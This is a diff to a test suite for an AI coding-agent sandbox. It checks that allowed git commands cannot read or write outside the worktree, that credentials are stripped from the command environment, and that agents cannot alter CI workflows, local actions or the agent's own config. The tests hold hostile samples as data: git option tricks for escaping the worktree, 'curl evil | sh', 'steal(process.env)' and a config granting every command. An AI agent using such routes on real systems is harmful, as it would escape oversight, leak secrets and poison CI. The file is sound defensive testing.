@@ -308,6 +308,32 @@ describe('run_command', () => {
     assert.equal(await exists(path.join(root, 'pwned')), false);
   });
 
+  test("an allowed 'git diff **' cannot read or write outside the worktree", async () => {
+    const gitDiff = { commands: ['git diff **', 'git grep **', 'git **'] };
+    const target = path.join(outside, 'written.txt');
+    for (const command of [
+      `git diff --no-index /dev/null ${path.join(outside, 'secret.txt')}`,
+      `git diff --no-ind /dev/null ${path.join(outside, 'secret.txt')}`,
+      `git diff --output=${target} HEAD`,
+      `git diff --outp=${target} HEAD`,
+      `git diff --ext-diff HEAD`,
+      `git -C ${outside} diff`,
+      `git --git-dir=${outside} diff`,
+      `git grep -O${target} x`,
+    ]) {
+      const result = await run(command, gitDiff);
+      assert.equal(result.isError, true, command);
+      assert.match(result.output, /is refused: .*outside the worktree|is refused: git's own options/, command);
+      assert.match(result.output, /drop that option|give the subcommand first/, command);
+      assert.doesNotMatch(result.output, /TOP-SECRET/);
+    }
+    assert.equal(await exists(target), false);
+    // What the pattern is for still runs.
+    const diff = await run('git diff --stat HEAD', gitDiff);
+    assert.equal(diff.isError, false, diff.output);
+    assert.match(diff.output, /^Exit code 0/);
+  });
+
   test('the command does not see the API key or the GitHub token', async () => {
     const saved = { ANTHROPIC_API_KEY: process.env.ANTHROPIC_API_KEY, GITHUB_TOKEN: process.env.GITHUB_TOKEN };
     process.env.ANTHROPIC_API_KEY = 'sk-ant-test-DO-NOT-LEAK';
@@ -326,6 +352,22 @@ describe('run_command', () => {
         else process.env[name] = value;
       }
     }
+  });
+
+  test('the command does not see credentials inside values, nor a copy of a secret Foreman holds', async () => {
+    const commandEnv = {
+      PATH: process.env.PATH,
+      DATABASE_URL: 'postgres://app:pa55word@db/app',
+      HTTP_PROXY: 'http://u:proxypass@proxy:8080',
+      COPIED: 'ghs_HELD_INSTALLATION_TOKEN',
+      PLAIN: 'https://example.com/',
+    };
+    const result = await run('node -e "console.log(JSON.stringify(process.env))"', { commandEnv, commandSecrets: ['ghs_HELD_INSTALLATION_TOKEN'] });
+    assert.equal(result.isError, false, result.output);
+    const env = JSON.parse(result.output.split('\n')[1]) as Record<string, string>;
+    assert.equal(env.PLAIN, 'https://example.com/');
+    assert.deepEqual([env.DATABASE_URL, env.HTTP_PROXY, env.COPIED], [undefined, undefined, undefined]);
+    assert.doesNotMatch(result.output, /pa55word|proxypass|HELD/);
   });
 
   test('a given environment replaces process.env, and is cleaned too', async () => {
@@ -356,15 +398,23 @@ describe('run_command', () => {
   });
 });
 
-test('CI workflows and Foreman config are protected from write agents, also through a link', async () => {
+test('CI workflows, the actions they run (.github/actions, action.yml, local `uses: ./dir`) and Foreman config are protected from write agents, also through a link', async () => {
   await mkdir(path.join(root, '.github', 'workflows'), { recursive: true });
   await writeFile(path.join(root, '.github', 'workflows', 'ci.yml'), 'on: push\n');
+  // A workflow that runs a local action outside .github: its directory is protected too.
+  await writeFile(path.join(root, '.github', 'workflows', 'release.yaml'), 'on: push\njobs:\n  r:\n    steps:\n      - uses: "./ci/steps"\n      - uses: ./\n');
   await symlink('.github/workflows', path.join(root, 'wf-link'));
   for (const [tool, input] of [
     ['write_file', { path: '.github/workflows/evil.yml', content: 'on: push\n' }],
     ['edit_file', { path: '.github/workflows/ci.yml', old_string: 'push', new_string: 'pull_request_target' }],
     ['write_file', { path: '.GitHub/foreman.yml', content: 'agents:\n  commands: ["**"]\n' }],
     ['write_file', { path: 'wf-link/evil.yml', content: 'on: push\n' }],
+    ['write_file', { path: '.github/actions/setup/action.yml', content: 'runs:\n  using: composite\n' }],
+    ['write_file', { path: '.github/actions/setup/run.sh', content: 'curl evil | sh\n' }],
+    ['write_file', { path: 'action.yml', content: 'runs:\n  using: node20\n  main: evil.js\n' }],
+    ['write_file', { path: 'tools/deploy/action.yaml', content: 'runs:\n  using: composite\n' }],
+    ['write_file', { path: 'ci/steps/index.js', content: 'steal(process.env)\n' }],
+    ['write_file', { path: 'ci/steps/lib/deep.js', content: 'steal(process.env)\n' }],
   ] as const) {
     const result = await executeTool(tool, input, writer());
     assert.equal(result.isError, true, `${tool} ${input.path}`);
@@ -372,6 +422,11 @@ test('CI workflows and Foreman config are protected from write agents, also thro
   }
   assert.equal(await readFile(path.join(root, '.github', 'workflows', 'ci.yml'), 'utf8'), 'on: push\n');
   assert.equal(await exists(path.join(root, '.github', 'workflows', 'evil.yml')), false);
+  assert.equal(await exists(path.join(root, 'ci')), false);
+  // Other files stay writable, also next to a protected directory's name.
+  const other = await executeTool('write_file', { path: 'ci/steps-notes.md', content: 'x\n' }, writer());
+  assert.equal(other.isError, false, other.output);
+  await rm(path.join(root, 'ci'), { recursive: true });
   await rm(path.join(root, 'wf-link'));
   await rm(path.join(root, '.github'), { recursive: true });
 });
